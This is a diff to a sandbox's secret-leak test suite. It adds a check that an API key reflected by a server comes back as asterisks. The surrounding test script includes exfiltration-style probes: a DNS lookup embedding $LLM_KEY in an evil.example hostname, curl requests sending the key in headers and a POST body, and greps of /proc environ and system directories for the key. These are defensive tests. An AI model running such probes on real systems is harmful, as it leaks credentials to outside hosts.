@@ -24,6 +24,8 @@ class H(http.server.BaseHTTPRequestHandler):
             f.write("%d %s %s\n%s%s\n--\n" % (self.server.server_port, self.command, self.path,
                     str(self.headers), body.decode("latin-1")))
         out = b"ok\n"
+        if self.path == "/reflect":
+            out = ("reflected %s\n" % self.headers.get("x-api-key", "")).encode()
         self.send_response(200)
         self.send_header("Content-Length", str(len(out)))
         self.end_headers()
@@ -167,6 +169,7 @@ curl -sS -m 10 -H "x-api-key: $LLM_KEY" http://cdn.allowed.example:9080/plain
 curl -sS -m 10 --cacert /world/ca.pem -H "x-api-key: $LLM_KEY" https://cdn.allowed.example:9443/otherhost
 curl -sS -m 10 --data "k=$LLM_KEY" https://web.allowed.example:9443/inbody
 getent hosts "$LLM_KEY.evil.example" >/dev/null
+curl -sS -m 10 -H "x-api-key: $LLM_KEY" https://web.allowed.example:9443/reflect
 git clone -q https://web.allowed.example/repo.git /tmp/repo && echo "git=$(cat /tmp/repo/README)"
 echo "found=$( (env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline) 2>/dev/null | tr '\0' '\n' | grep -c '{pat}')"
 echo "files=$(grep -rIl '{pat}' /etc /sandbox /tmp /root /home /run /var /world 2>/dev/null | wc -l)"
@@ -196,7 +199,6 @@ echo "bundle=$SSL_CERT_FILE $(grep -c 'BEGIN CERTIFICATE' $SSL_CERT_FILE)"
     );
     let events = events(&r.stdout);
     let out = output(&events);
-    assert!(!out.contains("***"), "{out}");
     let placeholder = out
         .lines()
         .find_map(|l| l.strip_prefix("env="))
@@ -208,6 +210,9 @@ echo "bundle=$SSL_CERT_FILE $(grep -c 'BEGIN CERTIFICATE' $SSL_CERT_FILE)"
     );
     assert!(out.contains("found=0\n"), "{out}");
     assert!(out.contains("files=0\n"), "{out}");
+    // A server reflecting the key hands the sandbox asterisks.
+    let stars = "*".repeat(key.len());
+    assert!(out.contains(&format!("reflected {stars}\n")), "{out}");
     // git (many requests, one connection each) trusts the sandbox CA with no flags.
     assert!(out.contains("git=cloned through nsbox\n"), "{out}");
     assert!(out.contains("bundle=/etc/nsbox-ca-bundle.pem "), "{out}");
@@ -246,7 +251,7 @@ echo "bundle=$SSL_CERT_FILE $(grep -c 'BEGIN CERTIFICATE' $SSL_CERT_FILE)"
     assert!(echo
         .request("/otherhost")
         .contains(&format!("x-api-key: {placeholder}")));
-    assert_eq!(echo.log().matches(&key).count(), 3, "{}", echo.log());
+    assert_eq!(echo.log().matches(&key).count(), 4, "{}", echo.log());
 
     let has = |ty: &str, host: &str, field: &str, value: &str| {
         events.iter().any(|e| {
